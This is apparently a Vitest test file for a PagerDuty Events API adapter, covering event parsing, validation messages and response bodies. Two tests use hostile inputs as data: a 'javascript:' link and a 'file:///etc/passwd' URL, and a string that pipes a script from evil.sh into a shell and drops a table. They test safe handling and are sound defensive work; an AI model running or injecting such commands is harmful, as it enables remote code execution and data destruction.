import { describe, expect, it } from 'vitest';
import {
  pagerDutyAccepted,
  pagerDutyChangeAccepted,
  pagerDutyInvalid,
  parsePagerDutyChange,
  parsePagerDutyEvent,
} from '../../../src/alerts/adapters/index.ts';
import {
  alertmanagerPagerDutyResolve,
  pagerDutyDocsAcknowledge,
  pagerDutyDocsChange,
  pagerDutyDocsResolve,
  pagerDutyDocsTrigger,
  pagerDutyOpenApiExample,
} from './fixtures.ts';

const NOW = Date.UTC(2024, 4, 1, 12, 0);
const newKey = () => 'generated-key';

function accepted(body: unknown) {
  const result = parsePagerDutyEvent(body, NOW, newKey);
  if (!result.ok) throw new Error(`refused: ${result.errors.join('; ')}`);
  return result;
}

function errorsOf(body: unknown): string[] {
  const result = parsePagerDutyEvent(body, NOW, newKey);
  if (result.ok) throw new Error('expected the event to be refused');
  return result.errors;
}

describe('parsePagerDutyEvent', () => {
  it('reads the trigger example of PagerDuty’s documentation', () => {
    const { routingKey, alert } = accepted(pagerDutyDocsTrigger());
    expect(routingKey).toBe('samplekeyhere');
    expect(alert).toEqual({
      dedupKey: 'samplekeyhere',
      status: 'firing',
      labels: {
        source: 'monitoringtool:cloudvendor:central-region-dc-01:852559987:cluster/api-stats-prod-003',
        severity: 'info',
        component: 'postgres',
        group: 'prod-datapipe',
        class: 'deploy',
      },
      annotations: {},
      summary: 'Example alert on host1.example.com',
      sourceSeverity: 'info',
      startsAt: Date.UTC(2015, 6, 17, 8, 42, 58, 315),
      endsAt: null,
      generatorUrl: 'https://monitoring.example.com',
      groupKey: 'prod-datapipe',
      externalUrl: null,
      links: [{ href: 'https://example.com/', text: 'Link text' }],
      images: [
        { src: 'https://www.pagerduty.com/wp-content/uploads/2016/05/pagerduty-logo-green.png', href: 'https://example.com/', alt: 'Example text' },
      ],
      details: {
        custom_details: { 'ping time': '1500ms', 'load avg': 0.75 },
        client: 'Sample Monitoring Service',
        client_url: 'https://monitoring.example.com',
      },
    });
  });

  it('reads the request example of the Events API v2 OpenAPI document', () => {
    const { routingKey, alert } = accepted(pagerDutyOpenApiExample());
    expect(routingKey).toBe('e93facc04764012d7bfb002500d5d1a6');
    expect(alert).toMatchObject({ dedupKey: 'srv01/mysql', status: 'firing', sourceSeverity: 'critical', labels: { class: 'disk', component: 'mysql' } });
  });

  it('maps acknowledge and resolve, which need only a dedup_key', () => {
    expect(accepted(pagerDutyDocsAcknowledge()).alert).toMatchObject({ dedupKey: 'dedupkeyhere', status: 'acknowledged', labels: {}, startsAt: null, endsAt: null });
    expect(accepted(pagerDutyDocsResolve()).alert).toMatchObject({ dedupKey: 'dedupkeyhere', status: 'resolved', summary: null, endsAt: NOW });
  });

  it('reads what Alertmanager’s PagerDuty notifier sends on resolve', () => {
    const { alert } = accepted(alertmanagerPagerDutyResolve());
    expect(alert).toMatchObject({
      status: 'resolved',
      dedupKey: 'd2b4c1c1a6e0b6f7c0b6a3b0d5e4f3a2b1c0d9e8f7a6b5c4d3e2f1a0b9c8d7e6',
      summary: '[RESOLVED] InstanceDown (node critical)',
      labels: { source: 'Alertmanager', severity: 'error' },
      links: [],
      images: [],
    });
  });

  it('generates a dedup key for a trigger without one, or with an empty one', () => {
    const body = pagerDutyDocsTrigger() as Record<string, unknown>;
    delete body.dedup_key;
    expect(accepted(body).alert.dedupKey).toBe('generated-key');
    expect(accepted({ ...body, dedup_key: '  ' }).alert.dedupKey).toBe('generated-key');
  });

  it('dates a trigger without a readable timestamp now, keeping what was sent', () => {
    const body = pagerDutyDocsTrigger();
    body.payload.timestamp = 'last Tuesday';
    const { alert } = accepted(body);
    expect(alert.startsAt).toBe(NOW);
    expect(alert.details.timestamp).toBe('last Tuesday');
    delete (body.payload as Partial<typeof body.payload>).timestamp;
    expect(accepted(body).alert.startsAt).toBe(NOW);
  });

  it('cuts summaries at PagerDuty’s 1024 characters', () => {
    const body = pagerDutyDocsTrigger();
    body.payload.summary = 'x'.repeat(5000);
    const summary = accepted(body).alert.summary!;
    expect(summary).toHaveLength(1024);
    expect(summary.endsWith('…')).toBe(true);
  });

  it('leaves out empty optional fields and unsafe links', () => {
    const body = pagerDutyDocsTrigger();
    Object.assign(body.payload, { component: '', class: '' });
    body.links = [{ href: 'javascript:alert(1)', text: 'x' }];
    body.client_url = 'file:///etc/passwd';
    const { alert } = accepted(body);
    expect(Object.keys(alert.labels)).toEqual(['source', 'severity', 'group']);
    expect(alert.links).toEqual([]);
    expect(alert.generatorUrl).toBeNull();
  });

  it('passes shell and SQL metacharacters through verbatim', () => {
    const hostile = `$(curl evil.sh | sh); DROP TABLE incidents; --'"\`\\`;
    const body = pagerDutyDocsTrigger();
    body.payload.summary = hostile;
    body.payload.source = hostile;
    const { alert } = accepted(body);
    expect(alert.summary).toBe(hostile);
    expect(alert.labels.source).toBe(hostile);
  });

  describe('refuses, in PagerDuty’s words', () => {
    it('a trigger without summary, source or severity', () => {
      expect(errorsOf({ routing_key: 'k', event_action: 'trigger', payload: { summary: ' ' } })).toEqual([
        "'payload.summary' is missing or blank",
        "'payload.source' is missing or blank",
        "'payload.severity' is missing or blank",
      ]);
    });

    it('an event without routing key or action', () => {
      expect(errorsOf({})).toEqual(["'routing_key' is missing or blank", "'event_action' is missing or blank"]);
    });

    it('an unknown action or severity', () => {
      const body = pagerDutyDocsTrigger();
      body.payload.severity = 'Critical';
      expect(errorsOf(body)).toEqual(["'payload.severity' must be one of critical, error, warning, info"]);
      expect(errorsOf({ ...pagerDutyDocsTrigger(), event_action: 'page' })).toEqual(["'event_action' must be one of trigger, acknowledge, resolve"]);
    });

    it('acknowledge or resolve without a dedup key', () => {
      expect(errorsOf({ routing_key: 'k', event_action: 'resolve' })).toEqual(["'dedup_key' is missing or blank"]);
      expect(errorsOf({ routing_key: 'k', event_action: 'acknowledge', dedup_key: '' })).toEqual(["'dedup_key' is missing or blank"]);
    });

    it('a dedup key over 255 characters', () => {
      expect(errorsOf({ ...pagerDutyDocsTrigger(), dedup_key: 'k'.repeat(256) })).toEqual(["'dedup_key' is longer than 255 characters"]);
    });

    it('fields of the wrong type', () => {
      expect(errorsOf({ ...pagerDutyDocsTrigger(), payload: 'down', links: {}, images: [{ href: 'x' }] })).toEqual([
        "'payload' must be an object, not text",
        "'payload.summary' is missing or blank",
        "'payload.source' is missing or blank",
        "'payload.severity' is missing or blank",
        "'links' must be a list, not an object",
        "'images[0].src' is missing or blank",
      ]);
    });

    it('custom details too large or too deep to store', () => {
      const body = pagerDutyDocsTrigger();
      let deep: unknown = 'bottom';
      for (let i = 0; i < 100; i++) deep = { deeper: deep };
      (body.payload as Record<string, unknown>).custom_details = deep;
      expect(errorsOf(body)).toEqual(["'payload.custom_details' is larger than 65536 bytes of JSON or nested more than 64 levels deep"]);
    });

    it('a body that is not an object', () => {
      expect(errorsOf('trigger')).toEqual(['Event object must be a JSON object, not text']);
    });
  });
});

describe('parsePagerDutyChange', () => {
  it('reads the change event example of PagerDuty’s documentation', () => {
    expect(parsePagerDutyChange(pagerDutyDocsChange())).toEqual({
      ok: true,
      routingKey: 'samplekeyhere',
      change: {
        summary: 'Build Success: Increase snapshot create timeout to 30 seconds',
        source: 'acme-build-pipeline-tool-default-i-9999',
        timestamp: Date.UTC(2020, 6, 17, 8, 42, 58, 315),
        links: [{ href: 'https://acme.pagerduty.dev/build/2', text: 'View more details in Acme!' }],
        details: { custom_details: { build_state: 'passed', build_number: '2', run_time: '1236s' } },
      },
    });
  });

  it('refuses a change without a summary', () => {
    expect(parsePagerDutyChange({ routing_key: 'k', payload: { source: 'ci' } })).toEqual({ ok: false, errors: ["'payload.summary' is missing or blank"] });
  });
});

describe('PagerDuty answers', () => {
  it('are the bodies PagerDuty sends', () => {
    expect(pagerDutyAccepted('srv01/HTTP')).toEqual({ status: 'success', message: 'Event processed', dedup_key: 'srv01/HTTP' });
    expect(pagerDutyInvalid(["'payload.source' is missing or blank"])).toEqual({
      status: 'invalid event',
      message: 'Event object is invalid',
      errors: ["'payload.source' is missing or blank"],
    });
    expect(pagerDutyChangeAccepted()).toEqual({ status: 'success', message: 'Change event processed' });
  });
});
